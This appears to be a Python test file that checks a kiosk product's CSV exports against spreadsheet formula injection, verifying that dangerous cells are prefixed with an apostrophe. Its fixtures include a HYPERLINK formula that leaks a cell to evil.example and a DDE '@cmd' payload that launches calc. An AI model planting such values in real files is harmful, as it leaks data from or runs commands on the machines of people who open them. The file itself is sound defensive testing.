"""CSV formula injection (issue 16 item 6): no cell of a CSV the product writes can run as a
spreadsheet formula. A name, a kiosk reason or a key number typed as ``=HYPERLINK(…)``
arrives in the export prefixed with ``'`` (OWASP), so Excel and WPS show it as text.
"""

from __future__ import annotations

import csv
import io
import uuid

from kiosk import csv_safe
from kiosk.audit import NewEvent
from kiosk.reports import store as report_store
from kiosk.reports.data import build_person_history
from kiosk.services import tx
from kiosk.store.models import Key, KeyCategory, Loan, Person
from kiosk.store.models_auth import AccountRole
from kiosk.store.types import utcnow
from tests.api.conftest import World

V1 = "/api/v1"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_cell_neutralises_every_trigger_and_leaves_numbers_and_text_alone() -> None:
    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", EVIL):
        assert csv_safe.cell(bad) == "'" + bad
    for fine in ("张伟", "U1201", "-3", "+1.5", "2.5", "", "a=b", 7, None):
        assert csv_safe.cell(fine) == fine


def _evil_world(world: World) -> uuid.UUID:
    """A person, a kiosk reason and a key number that are all formulas, and a loan of them."""
    person = Person(staff_no="X-EVIL", name=EVIL)
    key = Key(key_number="=1+2", label="+SUM(1)", group_id=world.ids["group"],
              category=KeyCategory.OTHER)
    world.add(person, key)
    now = utcnow()
    world.add(Loan(key_id=key.id, cabinet_id=world.ids["cabinet"], borrower_id=person.id,
                   reason_code="other", reason_text="@cmd|' /C calc'!A0", drawn_at=now,
                   due_at=now.replace(year=now.year + 1)))
    world.audit.append(NewEvent(type="key.drawn", key_number="=1+2", actors=[str(person.id)],
                                payload={"reason": "@cmd"}))
    return person.id


def test_report_csv_neutralises_a_formula_name_reason_and_key_number(world: World) -> None:
    _evil_world(world)
    with tx.write(world.audit) as session:
        today = utcnow().astimezone(world.runtime.settings.zone).date()
        report = build_person_history(session, cabinet="柜", staff_no="X-EVIL", start=today,
                                      end=today, zone=world.runtime.settings.zone, now=utcnow())
        row = report_store.save(session, world.audit, report=report, language="zh")
    supervisor = world.token(AccountRole.SUPERVISOR)
    got = world.client.get(f"{V1}/reports/{row.id}/download", params={"format": "csv"},
                           headers=supervisor)
    assert got.status_code == 200
    cells = _cells(got.content.decode("utf-8-sig"))
    assert "'" + EVIL in cells and "'=1+2" in cells and "'+SUM(1)" in cells
    assert "'@cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c.startswith(csv_safe.TRIGGERS) and not
                csv_safe._NUMBER.match(c)]


def test_events_export_neutralises_a_formula_key_number(world: World) -> None:
    _evil_world(world)
    auditor = world.token(AccountRole.AUDITOR)
    got = world.client.get(f"{V1}/events/export.csv", headers=auditor)
    assert got.status_code == 200
    cells = _cells(got.text)
    assert "'=1+2" in cells
    assert not [c for c in cells if c.startswith(csv_safe.TRIGGERS) and not
                csv_safe._NUMBER.match(c)]
